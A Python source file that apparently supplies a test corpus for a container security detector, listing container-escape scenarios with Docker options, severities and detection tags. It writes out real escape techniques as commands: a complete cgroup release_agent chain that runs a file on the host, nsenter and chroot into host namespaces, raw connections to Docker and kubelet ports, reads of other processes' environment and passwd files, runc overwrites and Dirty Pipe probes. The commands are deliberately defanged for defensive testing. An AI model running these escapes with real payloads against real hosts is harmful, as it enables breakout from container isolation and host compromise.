"""Ways out of a container, each for real and made so that nothing is harmed: what is written stands there already,
mounts are the container's own, hierarchies are new ones, and calls that could do something have void arguments."""

from scenes.playing import Deed
from seawall.core.severity import Severity

ALL = (
    "--cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined "
    "--security-opt systempaths=unconfined"
)
"""As good as privileged; works where the host itself lacks a capability."""
HOST_PIDS = f"{ALL} --pid host"
CGROUP = "mkdir -p /tmp/c; mount -t cgroup -o none,name=corpus-{R} corpus /tmp/c; "
"""A hierarchy of its own: nothing else on the host is in it."""
HELPER = (
    r"u=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1); "
    "printf '#!/bin/sh\\necho done >$0.out\\n' >/cmd; chmod 755 /cmd; echo $u/cmd >/tmp/c/release_agent; "
    "mkdir /tmp/c/x; echo 1 >/tmp/c/x/notify_on_release; sh -c 'echo $$ >/tmp/c/x/cgroup.procs'; "
    "sleep 1; cat /cmd.out; echo $u/cmd"
)
"""The whole way: the kernel runs a file of the container on the host, which writes a word beside itself."""
UNCONFINED = "--security-opt seccomp=unconfined"

ESCAPES = (
    # the runtime and its neighbours
    Deed("socket", "/opt/hand unix /tmp/x.sock", "escape", options="-v {S}:/tmp/x.sock"),
    Deed("socket-symlink", "ln -s /run/d/docker.sock /tmp/a; /opt/hand unix /tmp/a", "escape", options="-v {D}:/run/d"),
    Deed("socket-containerd", "/opt/hand unix /tmp/mysql.sock", "escape", options="-v {C}:/tmp/mysql.sock"),
    Deed("socket-curl", "curl -s --unix-socket /v/a http://d/_ping", "escape", options="-v {S}:/v/a"),
    Deed("docker-tcp", "bash -c 'exec 3<>/dev/tcp/{H}/2375'", "escape", Severity.MEDIUM),
    Deed("kubelet-tcp", "bash -c 'exec 3<>/dev/tcp/{H}/10250'", "escape k8s_audit network", Severity.MEDIUM),
    Deed("shim-socket", "/opt/hand unix @/containerd-shim/corpus.sock", "escape", options="--net host", works=False),
    # cgroups
    Deed(
        "release-agent",
        CGROUP + 'v=$(cat /tmp/c/release_agent); echo "$v" >/tmp/c/release_agent',
        "escape",
        Severity.CRITICAL,
        options=ALL,
    ),
    Deed("release-agent-outcome", CGROUP + HELPER, "escape", Severity.CRITICAL, options=ALL),
    Deed(
        "notify-on-release",
        CGROUP + "mkdir /tmp/c/x; echo 0 >/tmp/c/x/notify_on_release; rmdir /tmp/c/x",
        "escape",
        options=ALL,
    ),
    Deed("cgroup-mount", CGROUP + "ls /tmp/c", "escape", options=ALL),
    Deed(
        "devices-allow",
        "mkdir /tmp/d; mount -t cgroup -o devices d /tmp/d; cd /tmp/d; mkdir corpus-x; "
        "echo 'c 1:3 r' >corpus-x/devices.allow; rmdir corpus-x",
        "escape",
        options=ALL,
    ),
    Deed(
        "cgroup-left",
        "mkdir /tmp/p; mount -t cgroup -o pids p /tmp/p; sh -c 'echo $$ >/tmp/p/cgroup.procs; true'",
        "escape",
        Severity.HIGH,
        options=ALL,
    ),
    # settings of the kernel
    Deed(
        "core-pattern",
        'v=$(cat /proc/sys/kernel/core_pattern); echo "$v" >/proc/sys/kernel/core_pattern',
        "escape",
        Severity.CRITICAL,
        options=ALL,
    ),
    Deed(
        "core-pattern-mounted",
        "/opt/hand open /x/sys/kernel/core_pattern",
        "escape",
        Severity.CRITICAL,
        options="-v /proc:/x",
    ),
    Deed("vm-setting", "/opt/hand open /proc/sys/vm/overcommit_memory", "escape", Severity.MEDIUM, options=ALL),
    Deed("kallsyms", "/opt/hand read /x/kallsyms", "escape", Severity.LOW, options="-v /proc:/x"),
    # disks and mounts
    Deed(
        "disk-own-node",
        "mknod /tmp/d b {M}; /opt/hand read /tmp/d",
        "escape",
        options=f"{ALL} --device-cgroup-rule 'b *:* rwm'",
    ),
    Deed(
        "disk-device",
        "/opt/hand read /dev/data",
        "escape",
        image="busybox:diskdevice",
        options="--device {B}:/dev/data",
    ),
    Deed("mknod", "/opt/hand mknod /tmp/disk 7 200", "escape"),
    Deed(
        "mknod-user",
        "/opt/hand mknod /tmp/disk 7 200",
        "escape risky_syscall",
        Severity.LOW,
        options="--user 1000",
        works=False,
    ),
    Deed(
        "mount-disk", "mkdir /mnt/d; mount -o ro {B} /mnt/d; umount /mnt/d", "escape", options=f"{ALL} --device {{B}}"
    ),
    Deed(
        "mount-tmpfs",
        "mount -t tmpfs x /mnt",
        "escape",
        options="--cap-add SYS_ADMIN --security-opt apparmor=unconfined",
    ),
    Deed("mount-bind", "mount --bind /etc /mnt", "escape", options=ALL),
    Deed("mount-new-way", "/opt/hand newmount /mnt", "escape", Severity.MEDIUM, options=ALL),
    Deed("mount-refused", "mount -t tmpfs x /mnt", "escape risky_syscall", Severity.LOW, works=False),
    Deed("file-handle", "/opt/hand handle /etc/hostname", "escape", options="--cap-add DAC_READ_SEARCH"),
    Deed(
        "host-cron",
        "echo '# corpus' >/x/corpus.x; rm /x/corpus.x",
        "escape file_tampering",
        options="-v /etc/cron.d:/x",
    ),
    # namespaces
    Deed("nsenter", "nsenter -t {N} -m -u -n -i true", "escape", Severity.CRITICAL, options=HOST_PIDS),
    Deed("nsenter-net", "/opt/hand setns /proc/{N}/ns/net /bin/true", "escape", options=HOST_PIDS),
    Deed("nsenter-busybox", "nsenter -t {N} -m /bin/true", "escape", Severity.CRITICAL, "busybox", HOST_PIDS),
    Deed("chroot-host", "chroot /proc/{N}/root /bin/true", "escape", options=HOST_PIDS),
    Deed("cwd-host", "cd /proc/{N}/cwd && exec /bin/true", "escape", options=HOST_PIDS),
    Deed("userns", "unshare -Ur true", "escape", Severity.MEDIUM, options=UNCONFINED + " --user 1000"),
    Deed(
        "userns-clone",
        "/opt/hand clone",
        "escape",
        Severity.MEDIUM,
        image="busybox:usernsclone",
        options=UNCONFINED + " --user 1000",
    ),
    Deed("userns-mount", "unshare -Urm mount -t tmpfs x /mnt", "escape", options=UNCONFINED + " --user 1000"),
    Deed(
        "userns-refused", "unshare -Ur true", "escape risky_syscall", Severity.LOW, options="--user 1000", works=False
    ),
    # other containers' and the host's processes
    Deed(
        "ptrace-host",
        "/opt/hand ptrace {V}",
        "escape",
        image="busybox:ptracehost",
        options="--pid host --cap-add SYS_PTRACE",
    ),
    Deed(
        "mem-write", "/opt/hand mem {V}", "escape", image="busybox:memwrite", options="--pid host --cap-add SYS_PTRACE"
    ),
    Deed(
        "vm-write",
        "/opt/hand vmwrite {V}",
        "escape",
        image="busybox:vmwrite",
        options="--pid host --cap-add SYS_PTRACE",
    ),
    Deed(
        "take-descriptor",
        "/opt/hand getfd {V}",
        "escape",
        image="busybox:takedescriptor",
        options="--pid host --cap-add SYS_PTRACE",
    ),
    Deed("root-write", "/opt/hand write /proc/{V}/root/tmp/x y", "escape", options=HOST_PIDS),
    Deed("root-read", "cat /proc/{V}/root/etc/passwd", "escape", Severity.MEDIUM, options=HOST_PIDS),
    Deed(
        "environ-read", "cat /proc/{V}/environ >/dev/null", "escape abnormal_process", Severity.LOW, options=HOST_PIDS
    ),
    Deed(
        "ptrace-own",
        "/opt/hand sleep 9 & sleep 0.3; /opt/hand ptrace $!",
        "risky_syscall",
        Severity.MEDIUM,
        image="busybox:ptraceown",
    ),
    # the runtime's programs
    Deed("runc-copy", "/opt/hand open /x/runc", "escape", Severity.CRITICAL, options="-v {T}/runc:/x/runc"),
    Deed(
        "runc-inode", "/opt/hand open /opt/data", "escape", Severity.CRITICAL, options="-v {X}:/opt/data", works=False
    ),
    Deed(
        "runc-replaced", "cp /opt/hand /x/new; /opt/hand rename /x/new /x/runc", "escape", options="-v {T}/replace:/x"
    ),
    # shapes of known holes in the kernel
    Deed("dirty-pipe", "/opt/hand dirtypipe /etc/passwd", "escape", Severity.MEDIUM, options="--user 1000"),
    Deed("dirty-cow", "/opt/hand dirtycow /etc/passwd", "escape", Severity.MEDIUM, options="--user 1000"),
    # how a container was started
    # (told once an image: each here has one of its own)
    Deed("start-capable", "true", "escape", Severity.MEDIUM, "busybox:capable", f"{ALL} --cap-drop SYS_PTRACE"),
    Deed("start-host-root", "true", "escape", Severity.MEDIUM, "busybox:hostroot", "-v /:/x"),
    Deed("start-host-pids", "true", "escape", Severity.MEDIUM, "busybox:hostpids", "--pid host --ipc host"),
    Deed("start-socket", "true", "escape", Severity.MEDIUM, "busybox:socket", "-v {S}:/x"),
    Deed("start-admin", "true", "escape", Severity.MEDIUM, "busybox:admin", "--cap-add SYS_ADMIN"),
    Deed("start-device", "true", "escape", Severity.MEDIUM, "busybox:device", "--device {B}"),
)

REFUSED = (
    "bpf perf_event_open init_module finit_module delete_module kexec_load kexec_file_load userfaultfd keyctl add_key "
    "request_key fsopen open_tree move_mount mount_setattr pivot_root iopl ioperm swapon swapoff quotactl "
    "setdomainname settimeofday reboot unshare acct umount2"
)
"""Calls that the default profile refuses: probes, told at a low level."""

CALLS = (
    Deed(
        "calls-refused", f"for call in {REFUSED}; do /opt/hand call $call; done", "risky_syscall escape", Severity.LOW
    ),
    Deed(
        "call-io-uring-setup",
        "/opt/hand call io_uring_setup",
        "risky_syscall escape",
        Severity.LOW,
        "busybox:iouringsetup",
    ),
    Deed("call-chroot", "/opt/hand call chroot", "risky_syscall escape", Severity.LOW, "busybox:chroot"),
    Deed("call-bpf", "/opt/hand call bpf-map", "risky_syscall escape", Severity.MEDIUM, "busybox:bpf", options=ALL),
    Deed(
        "call-init-module",
        "/opt/hand call init_module",
        "risky_syscall escape",
        Severity.LOW,
        "busybox:initmodule",
        options=ALL,
    ),
    Deed(
        "call-perf", "/opt/hand call perf_event_open", "risky_syscall escape", Severity.LOW, "busybox:perf", options=ALL
    ),
    Deed(
        "call-userfaultfd",
        "/opt/hand call userfaultfd",
        "risky_syscall escape",
        Severity.LOW,
        "busybox:userfaultfd",
        options=ALL,
    ),
)
